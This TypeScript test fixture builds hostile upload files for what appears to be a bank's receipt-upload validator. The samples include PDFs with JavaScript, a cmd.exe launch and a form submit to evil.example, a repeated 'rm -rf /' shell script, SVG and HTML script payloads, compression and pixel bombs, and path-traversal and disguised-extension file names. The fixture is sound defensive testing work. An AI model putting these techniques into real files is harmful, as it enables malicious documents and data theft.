import { fileTypes, type FileKind } from '@bank/contract/endpoint.ts';
import { crc32, deflateSync } from 'node:zlib';

/** Hidden in files that must not be kept as they came. */
export const MARKER = 'KEELSON-HIDDEN-MARKER';

/** A file somebody sends, and what must become of it: refused, or kept without what was hidden in it. */
export type HostileFile = {
  readonly name: string;
  readonly fileName: string;
  readonly type: string;
  readonly bytes: Buffer;
  /** What it is, if it may be accepted; otherwise it is refused wherever it is sent. */
  readonly cleaned?: FileKind;
};

const [JPEG, PNG, WEBP, PDF] = [fileTypes.jpeg, fileTypes.png, fileTypes.webp, fileTypes.pdf];

/** The smallest sound picture of each format. */
const DOTS = {
  jpeg:
    '/9j/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCNl4x9ln' +
    'N+gXz/2wBDARUXFx4aHjshITt8U0ZTfHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8' +
    'fHx8fHz/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAX/xAAUEAEAAAAAAAAAAAAAAAAAAA' +
    'AA/8QAFQEBAQAAAAAAAAAAAAAAAAAAAwX/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCWAVNf/9k=',
  gif: 'R0lGODlhAQABAIAAAAAAAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==',
  webp: 'UklGRjYAAABXRUJQVlA4ICoAAABwAQCdASoIAAgAAUAmJaACdAFAAAD+8ut8CStWbp/87B/96P/THxmAAAA=',
} as const;

export function tinyFile(kind: FileKind): Buffer {
  switch (kind) {
    case 'png':
      return pngOf(4, 4);
    case 'pdf':
      return pdfOf('');
    case 'jpeg':
    case 'gif':
    case 'webp':
      return Buffer.from(DOTS[kind], 'base64');
  }
}

function chunkOf(type: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A PNG of one bit for each pixel. It may say it is larger than it is. */
function pngOf(width: number, height: number, rows = height, between: readonly Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunkOf('IHDR', header),
    ...between,
    chunkOf('IDAT', deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * rows))),
    chunkOf('IEND', Buffer.alloc(0)),
  ]);
}

/** A segment of a JPEG right after its beginning. */
function withSegment(marker: number, body: Buffer): Buffer {
  const jpeg = tinyFile('jpeg');
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

/** Exif with a place on earth: one directory that points to another of GPS values, and a text. */
export function jpegWithPlace(): Buffer {
  const entry = (tag: number, type: number, count: number, value: number) => {
    const bytes = Buffer.alloc(12);
    bytes.writeUInt16LE(tag, 0);
    bytes.writeUInt16LE(type, 2);
    bytes.writeUInt32LE(count, 4);
    bytes.writeUInt32LE(value, 8);
    return bytes;
  };
  const text = Buffer.from(`${MARKER}\0`, 'latin1');
  const directory = (entries: readonly Buffer[]) => {
    const count = Buffer.alloc(2);
    count.writeUInt16LE(entries.length);
    return Buffer.concat([count, ...entries, Buffer.alloc(4)]);
  };
  // Offsets count from the byte order mark: 8 for the header, 30 for a directory of two, 18 for one of one.
  const tiff = Buffer.concat([
    Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]),
    directory([entry(0x010e, 2, text.length, 80), entry(0x8825, 4, 1, 38)]),
    directory([entry(0x0002, 5, 3, 56)]),
    ratios([43, 39, 36]),
    text,
  ]);
  return withSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]));
}

function ratios(values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 8);
  for (const [index, value] of values.entries()) {
    bytes.writeUInt32LE(value, index * 8);
    bytes.writeUInt32LE(1, index * 8 + 4);
  }
  return bytes;
}

/** A sound PDF of so many pages, with something more in its catalog and after its objects. */
export function pdfOf(inCatalog: string, more = '', pages = 1): Buffer {
  const kids = Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(' ');
  const objects = [
    `<</Type/Catalog/Pages 2 0 R ${inCatalog}>>`,
    `<</Type/Pages/Count ${pages}/Kids[${kids}]>>`,
    ...Array.from({ length: pages }, () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>'),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  text += more;
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const from = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${from}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** Objects packed into a compressed stream, where a search of the file doesn't see them. */
function packed(objects: string, head = ''): string {
  const body = deflateSync(Buffer.from(objects, 'latin1')).toString('latin1');
  return `90 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode${head}/Length ${body.length}>>\nstream\n${body}\nendstream\nendobj\n`;
}

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>';
const PAGE = '<!doctype html><script>alert(1)</script>';
const START_OF_JPEG = Buffer.from([0xff, 0xd8, 0xff]);
const START_OF_PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic')]);

const refusedPictures = (): HostileFile[] => {
  const as = (name: string, bytes: Buffer, type: string = JPEG, fileName = 'receipt.jpg') => ({
    name,
    bytes,
    type,
    fileName,
  });
  return [
    as('a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)])),
    as('an ELF program', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(300)])),
    as('a script of a shell', Buffer.from('#!/bin/sh\nrm -rf /\n'.repeat(9))),
    as('an SVG', Buffer.from(SVG)),
    as('an SVG by its own type', Buffer.from(SVG), 'image/svg+xml', 'receipt.svg'),
    as('a page', Buffer.from(PAGE)),
    as('a page behind the beginning of a JPEG', Buffer.concat([START_OF_JPEG, Buffer.from(PAGE)])),
    as('an SVG behind the beginning of a PNG', Buffer.concat([START_OF_PNG, Buffer.from(SVG)]), PNG),
    as('a page that begins as a GIF', Buffer.from(`GIF89a/*${PAGE}*/=1;`)),
    { ...as('a GIF', tinyFile('gif'), fileTypes.gif), cleaned: 'gif' },
    as('a GIF as JPEG', tinyFile('gif')),
    as('a HEIC', heic, 'image/heic', 'IMG_1.HEIC'),
    as('a HEIC as JPEG', heic),
    as('a ZIP', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)])),
    as('a PDF as JPEG', pdfOf('')),
    as('a JPEG as PNG', tinyFile('jpeg'), PNG),
    as('a PNG as PDF', pngOf(4, 4), PDF, 'receipt.pdf'),
    as('nine hundred million pixels', pngOf(30_000, 30_000, 100), PNG),
    as('twenty-six million pixels', pngOf(5_100, 5_100), PNG),
    as('four billion pixels in a JPEG header', hugeJpeg()),
    as('a WebP of 268 million pixels', hugeWebp(), WEBP),
    as('no pixels', pngOf(0, 4, 1), PNG),
    as('half a JPEG', tinyFile('jpeg').subarray(0, Math.floor(tinyFile('jpeg').length * 0.7))),
    as('a JPEG of endless segments', Buffer.concat([START_OF_JPEG, Buffer.alloc(60_000, 0xff)])),
    as('a PNG with a wrong sum', damagedPng(), PNG),
    as('nothing', Buffer.alloc(0)),
    as('three bytes', START_OF_JPEG),
  ];
};

const refusedPdfs = (): HostileFile[] => {
  const as = (name: string, bytes: Buffer) => ({ name, bytes, type: PDF, fileName: 'receipt.pdf' });
  return [
    as('a PDF with a script', pdfOf('/Names<</JavaScript 9 0 R>>', `9 0 obj\n${SCRIPT}\nendobj\n`)),
    as('a PDF that acts when opened', pdfOf(`/OpenAction ${SCRIPT}`)),
    as(
      'a script whose name is spelled otherwise',
      pdfOf('', '9 0 obj\n<</S/J#61vaScr#69pt/JS(x)>>\nendobj\n'),
    ),
    as('a script in packed objects', pdfOf('', packed(`9 0 ${SCRIPT}`))),
    as(
      'a script in rows of a predictor',
      pdfOf('', packed(`9 0 ${SCRIPT}`, '/DecodeParms<</Predictor 12>>')),
    ),
    as(
      'packed objects that don’t say so',
      pdfOf('', packed(`9 0 ${SCRIPT}`, '/DecodeParms<</Predictor 12>>').replace('/Type/ObjStm', '')),
    ),
    as('objects packed in another way', pdfOf('', packed('9 0 <<>>').replace('stream\nx', 'stream\nA'))),
    as('a PDF that starts a program', pdfOf('/AA<</O<</S/Launch/F(cmd.exe)>>>>')),
    as('a PDF with a file in it', pdfOf('/Names<</EmbeddedFiles 9 0 R>>')),
    as('a PDF that sends a form', pdfOf('', '9 0 obj\n<</S/SubmitForm/F(https://evil.example)>>\nendobj\n')),
    as('a PDF with a password', pdfOf('/Encrypt 9 0 R')),
    as('a PDF of fifty-one pages', pdfOf('', '', 51)),
    as('a PDF without a page', pdfOf('', '', 0)),
    as(
      'a PDF with an archive behind it',
      Buffer.concat([pdfOf(''), Buffer.from(`PK\x03\x04${MARKER}`, 'latin1')]),
    ),
    as('a PDF that is cut', pdfOf('').subarray(0, 90)),
    as('a PDF behind other bytes', Buffer.concat([Buffer.from('x'), pdfOf('')])),
    as('a compressed bomb', pdfOf('', packed(`9 0 ${' '.repeat(12_000_000)}`))),
  ];
};

const cleaned = (): HostileFile[] => {
  const named = (name: string, kind: FileKind, bytes: Buffer, fileName = 'receipt') => ({
    name,
    cleaned: kind,
    bytes,
    type: fileTypes[kind],
    fileName,
  });
  const tail = Buffer.from(`<script>${MARKER}</script>`);
  return [
    named('a JPEG with a place', 'jpeg', jpegWithPlace()),
    named('a JPEG with a comment', 'jpeg', withSegment(0xfe, Buffer.from(MARKER))),
    named('a JPEG with a page behind it', 'jpeg', Buffer.concat([tinyFile('jpeg'), tail])),
    named('a PNG with a text', 'png', pngOf(4, 4, 4, [chunkOf('tEXt', Buffer.from(`Comment\0${MARKER}`))])),
    named('a PNG with an archive behind it', 'png', Buffer.concat([pngOf(4, 4), tail])),
    named('a name with folders', 'png', pngOf(4, 4), '../../etc/passwd'),
    named('a name that turns around', 'png', pngOf(4, 4), 'receipt\u202Egpj.exe'),
    named('a name of markup', 'png', pngOf(4, 4), '<img src=x onerror=alert(1)>.png'),
    named('a name that is long', 'png', pngOf(4, 4), `${'x'.repeat(400)}.png`),
    named('a name of nothing', 'png', pngOf(4, 4), ''),
  ];
};

/** Files of attackers and broken phones, all made here. */
export function hostileFiles(): HostileFile[] {
  return [...refusedPictures(), ...refusedPdfs(), ...cleaned()];
}

function hugeJpeg(): Buffer {
  const jpeg = Buffer.from(tinyFile('jpeg'));
  const at = jpeg.findIndex(
    (byte, index) => byte === 0xff && /^c[0-2]$/.test((jpeg[index + 1] ?? 0).toString(16)),
  );
  jpeg.writeUInt16BE(0xffff, at + 5);
  jpeg.writeUInt16BE(0xffff, at + 7);
  return jpeg;
}

function hugeWebp(): Buffer {
  const bytes = Buffer.alloc(40);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(32, 4);
  bytes.write('WEBPVP8X', 8, 'latin1');
  bytes.writeUInt32LE(10, 16);
  bytes.writeUIntLE(16_383, 24, 3);
  bytes.writeUIntLE(16_383, 27, 3);
  return bytes;
}

function damagedPng(): Buffer {
  const png = pngOf(64, 64);
  const sum = png.length - 12 - 4;
  png.writeUInt32BE(png.readUInt32BE(sum) ^ 1, sum);
  return png;
}
